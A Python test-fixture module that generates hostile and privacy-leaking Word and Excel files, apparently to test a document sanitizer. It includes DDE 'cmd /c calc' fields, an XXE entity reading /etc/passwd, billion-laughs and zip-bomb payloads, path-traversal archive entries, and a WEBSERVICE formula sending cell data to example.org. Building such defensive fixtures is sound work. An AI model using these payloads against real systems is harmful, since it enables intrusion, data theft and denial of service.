"""Word and Excel files that betray somebody, or mean harm; each is made when it is asked for."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Mapping

from tests.hostile_pictures import BOTH, LATIN, Made, jpeg_with_place
from tests.samples import KINDS, P, R, S, W, docx, links, packed, xlsx

Parts = Mapping[str, str | bytes]
HEAD = f'xmlns:w="{W}" xmlns:r="{R}" xmlns:w14="http://schemas.microsoft.com/office/word/2010/wordml"'
BY = f'w:author="{BOTH}" w:initials="ZQ" w:date="2026-01-01T00:00:00Z"'
TRACKED = f"""<w:p w:rsidR="00AB12CD"><w:ins w:id="1" {BY}><w:r><w:t>工资</w:t></w:r></w:ins>
<w:del w:id="2" {BY}><w:r><w:delText>奖金</w:delText></w:r></w:del>
<w:permStart w:id="3" w:ed="{LATIN}"/></w:p>
<!-- {BOTH} --><?word {BOTH}?>"""
COMMENT = f'<w:comments {HEAD}><w:comment w:id="1" {BY}><w:p/></w:comment></w:comments>'
CORE = f"""<cp:coreProperties xmlns:cp="{P}/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/">
<dc:creator>{BOTH}</dc:creator><cp:lastModifiedBy>{BOTH}</cp:lastModifiedBy></cp:coreProperties>"""
SETTINGS = f"""<w:settings {HEAD}><w:rsids><w:rsidRoot w:val="00ABCDEF"/></w:rsids><w:attachedTemplate r:id="rId1"/>
<w:docVars><w:docVar w:name="who" w:val="{BOTH}"/></w:docVars><w:mailMerge><w:query w:val="{BOTH}"/></w:mailMerge>
<w14:docId w14:val="ABCD"/></w:settings>"""
PLACE = f"file:///C:/Users/{LATIN.replace(' ', '')}/Normal.dotm"


def _properties(of: Parts, main: str) -> dict[str, str | bytes]:
    kinds = (
        ("core-properties", "docProps/core.xml"),
        ("extended-properties", "docProps/app.xml"),
        ("custom-properties", "docProps/custom.xml"),
        ("metadata/thumbnail", "docProps/thumbnail.jpeg"),
    )
    return dict(of) | {
        "_rels/.rels": links(("officeDocument", main), *kinds),
        "docProps/core.xml": CORE,
        "docProps/app.xml": f"<Properties><Manager>{BOTH}</Manager><Company>{BOTH}</Company></Properties>",
        "docProps/custom.xml": f"<Properties><property name='{LATIN}'>{BOTH}</property></Properties>",
        "docProps/thumbnail.jpeg": jpeg_with_place(),
    }


def _path(name: str) -> str:
    """Return a path within a package that stands as the name of an argument."""
    return name.replace("__", "/").replace("_DOT_", ".")


def _word(*rows: tuple[str, str], body: str = "<w:p/>", **parts: str | bytes) -> bytes:
    """Return a Word file whose text leads to other parts."""
    more = {_path(name): content for name, content in parts.items()}
    return packed(docx(body) | {"word/_rels/document.xml.rels": links(*rows)} | more)


def _sheet(*rows: tuple[str, str], cells: str = "", **parts: str | bytes) -> bytes:
    more = {_path(name): content for name, content in parts.items()}
    return packed(xlsx(cells) | {"xl/worksheets/_rels/sheet1.xml.rels": links(*rows)} | more)


def _book(inside: str, *rows: tuple[str, str], **parts: str | bytes) -> bytes:
    more = {_path(name): content for name, content in parts.items()}
    sheets = '<sheets><sheet name="a" sheetId="1" r:id="rId1"/></sheets>'
    body = f'<workbook xmlns="{S}" xmlns:r="{R}">{inside}{sheets}</workbook>'
    rels = links(("worksheet", "worksheets/sheet1.xml"), *rows)
    return packed(xlsx() | {"xl/workbook.xml": body, "xl/_rels/workbook.xml.rels": rels} | more)


def _with(of: Parts, *entries: tuple[zipfile.ZipInfo, bytes], remark: bytes = b"") -> bytes:
    made = io.BytesIO(packed(of))
    with zipfile.ZipFile(made, "a", zipfile.ZIP_DEFLATED) as archive:
        for entry, content in entries:
            archive.writestr(entry, content)
        archive.comment = remark
    return made.getvalue()


def _named(name: str, mode: int = 0o100644, extra: bytes = b"", packing: int = zipfile.ZIP_DEFLATED) -> zipfile.ZipInfo:
    entry = zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0))
    entry.external_attr, entry.extra, entry.compress_type, entry.create_system = mode << 16, extra, packing, 3
    return entry


def _remarks() -> bytes:
    extra = struct.pack("<HH", 0x7075, len(BOTH.encode())) + BOTH.encode()
    return _with(docx(), (_named("word/theme.xml", extra=extra), b"<x/>"), remark=BOTH.encode())


def _twice() -> bytes:
    return packed(docx() | {"word/documenX.xml": f"<x>{BOTH}</x>"}).replace(b"documenX", b"document")


def _locked() -> bytes:
    made = bytearray(packed(docx()))
    place = -1
    while (place := made.find(b"PK\1\2", place + 1)) >= 0:
        made[place + 8] |= 1
    return bytes(made)


def _many(entries: int) -> bytes:
    return packed(docx() | {f"word/x{number}.xml": "" for number in range(entries)})


def _macro_kind() -> bytes:
    of = docx()
    types = str(of["[Content_Types].xml"]).replace(
        KINDS["word/document.xml"], "application/vnd.ms-word.document.macroEnabled.main+xml"
    )
    return packed(of | {"[Content_Types].xml": types})


def _body(text: str, how: int = zipfile.ZIP_DEFLATED) -> bytes:
    return packed(docx() | {"word/document.xml": text}, how)


def _loose(text: str) -> bytes:
    """Return a Word file that is not told as a bomb by how much smaller it is packed."""
    return _body(text, zipfile.ZIP_STORED)


LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><x>&b;</x>'
OUTSIDE = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
BETRAYING: tuple[Made, ...] = (
    ("properties.docx", lambda: packed(_properties(docx(), "word/document.xml"))),
    ("tracked.docx", lambda: packed(docx(TRACKED))),
    ("comments.docx", lambda: _word(("comments", "comments.xml"), word__comments_DOT_xml=COMMENT)),
    ("people.docx", lambda: _word(("people", "people.xml"), word__people_DOT_xml=f"<x a='{BOTH}'/>")),
    ("custom.docx", lambda: _word(("customXml", "../customXml/item1.xml"), customXml__item1_DOT_xml=f"<x>{BOTH}</x>")),
    ("settings.docx", lambda: _word(
        ("settings", "settings.xml"), word__settings_DOT_xml=SETTINGS,
        **{"word___rels__settings_DOT_xml_DOT_rels": links(("attachedTemplate", PLACE))},
    )),
    ("photo.docx", lambda: _word(("image", "media/image1.jpeg"), word__media__image1_DOT_jpeg=jpeg_with_place())),
    ("link.docx", lambda: _word(
        ("hyperlink", f"mailto:{LATIN.replace(' ', '.')}@example.org"),
        body='<w:hyperlink r:id="rId1"><w:r/></w:hyperlink>',
    )),
    ("forgotten.docx", lambda: packed(docx() | {"word/old.xml": f"<x>{BOTH}</x>", f"{LATIN}.xml": BOTH})),
    ("remarks.docx", _remarks),
    ("page behind.docx", lambda: packed(docx()) + b"<html><script>alert(1)</script>"),
    ("properties.xlsx", lambda: packed(_properties(xlsx(), "xl/workbook.xml"))),
    ("comments.xlsx", lambda: _sheet(
        ("comments", "../comments1.xml"),
        xl__comments1_DOT_xml=f"<comments><authors><author>{BOTH}</author></authors><r><t>{BOTH}:</t></r></comments>",
    )),
    ("folder.xlsx", lambda: _book(
        f'<fileSharing userName="{LATIN}"/><absPath url="C:/{LATIN}/"/><customWorkbookViews><customWorkbookView '
        f'name="{BOTH}"/></customWorkbookViews>'
    )),
    ("people.xlsx", lambda: _book(
        "", ("person", "persons/person.xml"),
        xl__persons__person_DOT_xml=f'<personList><person displayName="{BOTH}" id="1" userId="{LATIN}"/></personList>',
    )),
    ("pivot.xlsx", lambda: _book(
        "", ("pivotCacheDefinition", "pivot.xml"), xl__pivot_DOT_xml=f'<pivotCacheDefinition refreshedBy="{LATIN}"/>',
    )),
    ("printer.xlsx", lambda: _sheet(
        ("printerSettings", "../printerSettings/printerSettings1.bin"),
        xl__printerSettings__printerSettings1_DOT_bin=LATIN.encode("utf-16-le"),
    )),
    ("history.xlsx", lambda: _book(
        "", ("revisionHeaders", "revisions/h.xml"), xl__revisions__h_DOT_xml=f"<x>{BOTH}</x>",
    )),
)  # fmt: skip
HARMFUL: tuple[Made, ...] = (
    ("macro.docx", lambda: _word(("vbaProject", "vbaProject.bin"), word__vbaProject_DOT_bin=b"\xd0\xcf")),
    ("macro by kind.docx", _macro_kind),
    ("object.docx", lambda: _word(("oleObject", "embeddings/a.bin"), word__embeddings__a_DOT_bin=b"\xd0\xcf")),
    ("package.docx", lambda: _word(("package", "embeddings/a.xlsx"), word__embeddings__a_DOT_xlsx=packed(xlsx()))),
    ("picture elsewhere.docx", lambda: _word(("image", "https://example.org/seen.png"))),
    ("html inside.docx", lambda: _word(("aFChunk", "a.html"), word__a_DOT_html="<script>")),
    ("drawing.docx", lambda: _word(("image", "media/a.emf"), word__media__a_DOT_emf=BOTH.encode())),
    ("broken photo.docx", lambda: _word(("image", "media/a.jpeg"), word__media__a_DOT_jpeg=BOTH.encode())),
    ("command.docx", lambda: packed(docx(
        "<w:fldChar/><w:instrText>DD</w:instrText><w:instrText>E cmd /c calc</w:instrText><w:fldChar/>"))),
    ("command in one.docx", lambda: packed(docx('<w:fldSimple w:instr=" DDEAUTO cmd x"/>'))),
    ("laughs.docx", lambda: _body(LAUGHS)),
    ("outside.docx", lambda: _body(OUTSIDE)),
    ("no xml.docx", lambda: _body("<w:document><broken")),
    ("laughs in links.docx", lambda: _word(word___rels__document_DOT_xml_DOT_rels=LAUGHS)),
    ("elements.docx", lambda: _loose(f"<x>{'<a/>' * 1_300_000}</x>")),
    ("deep.docx", lambda: _loose("<a>" * 1_000_000)),
    ("attributes.docx", lambda: _loose("<a " + " ".join(f'a{number}=""' for number in range(300_000)) + "/>")),
    ("attributes everywhere.docx", lambda: _loose("<x>" + '<a b="" c="" d="" e="" f=""/>' * 300_000)),
    ("links without end.docx", lambda: packed(
        docx() | {"_rels/.rels": "<x>" + "<a/>" * 2_000_000}, zipfile.ZIP_STORED)),
    ("long remark.docx", lambda: _loose(f"<x><!--{' ' * 9_000_000}--></x")),
    ("bomb.docx", lambda: _body(f"<x>{' ' * 30_000_000}</x>")),
    ("large bomb.xlsx", lambda: packed(xlsx() | {f"xl/x{number}.xml": bytes(20_000_000) for number in range(5)})),
    ("many.docx", lambda: _many(2_500)),
    ("very many.docx", lambda: _many(12_000)),
    ("symlink.docx", lambda: _with(docx(), (_named("word/theme.xml", 0o120777), b"/etc/passwd"))),
    ("up.docx", lambda: _with(docx(), (_named("../../evil.xml"), b"<x/>"))),
    ("up inside.docx", lambda: _with(docx(), (_named("word/../../evil.xml"), b"<x/>"))),
    ("absolute.docx", lambda: _with(docx(), (_named("/etc/cron.d/evil"), b"<x/>"))),
    ("backslash.docx", lambda: _with(docx(), (_named("word\\..\\evil.xml"), b"<x/>"))),
    ("drive.docx", lambda: _with(docx(), (_named("C:/evil.xml"), b"<x/>"))),
    ("twice.docx", _twice),
    ("locked.docx", _locked),
    ("packed oddly.docx", lambda: _with(docx(), (_named("word/theme.xml", packing=zipfile.ZIP_LZMA), b"<x/>"))),
    ("half.docx", lambda: packed(docx())[:-40]),
    ("damaged.docx", lambda: packed(docx()).replace(b"PK\3\4", b"PK\3\4\0\0", 1)),
    ("archive.zip", lambda: packed({"a.txt": "a"})),
    ("slides.pptx", lambda: packed({"[Content_Types].xml": "<Types/>", "ppt/presentation.xml": "<p/>"})),
    ("names only.docx", lambda: packed({"word/document.xml": "<x/>"})),
    ("other book.xlsx", lambda: _book(
        "", ("externalLink", "externalLinks/a.xml"), xl__externalLinks__a_DOT_xml=f"<x>{BOTH}</x>")),
    ("database.xlsx", lambda: _book(
        "", ("connections", "connections.xml"), xl__connections_DOT_xml=f"<x a='{BOTH}'/>")),
    ("fetching.xlsx", lambda: _sheet(cells='<c><f>WEBSERVICE("http://example.org/"&amp;A1)</f></c>')),
)  # fmt: skip
